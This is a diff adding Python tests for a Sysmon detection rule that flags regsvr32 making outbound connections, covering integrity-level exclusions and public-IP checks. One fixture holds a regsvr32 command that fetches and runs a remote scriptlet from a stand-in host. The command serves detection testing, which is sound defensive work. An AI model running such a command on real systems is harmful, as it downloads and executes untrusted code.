@@ -233,3 +233,49 @@ def test_a_copied_regasm_is_suspicious_wherever_it_runs_from(
     )
     assert fires(pack_by_key["regsvcs_regasm_suspicious_execution"], record)
     assert not fires(pack_by_key["regsvr32_renamed"], record)
+
+
+def _connection(destination: str) -> dict[str, Any]:
+    return {
+        "EventId": 3,
+        "UtcTime": "2026-11-21 08:00:01.000",
+        "ProcessGuid": GUID,
+        "ProcessId": "5000",
+        "Image": REGSVR32,
+        "Protocol": "tcp",
+        "Initiated": "true",
+        "SourceIp": "10.0.0.8",
+        "SourcePort": "50000",
+        "DestinationIp": destination,
+        "DestinationPort": "443",
+    }
+
+
+@pytest.mark.parametrize(("integrity", "want"), [("Medium", True), ("System", False)])
+def test_installer_exclusion_reads_the_integrity_level_not_sysmons_sid(
+    integrity: str, want: bool, pack_by_key: dict[str, PackRule]
+) -> None:
+    """A Sysmon record's user.id is the Sysmon service's SID (LocalSystem, S-1-5-18) whoever
+    ran the process: a user's regsvr32 under an installed program still fires; only a
+    LocalSystem one (integrity System) is taken for software installation."""
+    item = pack_by_key["registration_utility_network_connection"]
+    parent = "C:\\Program Files (x86)\\Contoso\\Updater\\update.exe"
+    proc = start(REGSVR32, "regsvr32 /s contoso.dll", ParentImage=parent, IntegrityLevel=integrity)
+    events = []
+    for i, record in enumerate((proc, _connection("151.101.1.1"))):
+        doc = to_ecs(record)
+        doc.setdefault("user", {})["id"] = "S-1-5-18"
+        events.append(SourceEvent("logs-windows.sysmon_operational-default", str(i), doc))
+    assert bool(item.query.run(events)) is want
+
+
+@pytest.mark.parametrize(
+    ("destination", "want"),
+    [("151.101.1.1", True), ("2606:4700::6810:84e5", True), ("100.64.0.9", False), ("::1", False)],
+)
+def test_public_means_what_the_ip_table_says(
+    destination: str, want: bool, pack_by_key: dict[str, PackRule]
+) -> None:
+    item = pack_by_key["registration_utility_network_connection"]
+    proc = start(REGSVR32, "regsvr32 /s /i:https://cdn.example.net/a.sct scrobj.dll")
+    assert fires(item, proc, _connection(destination)) is want
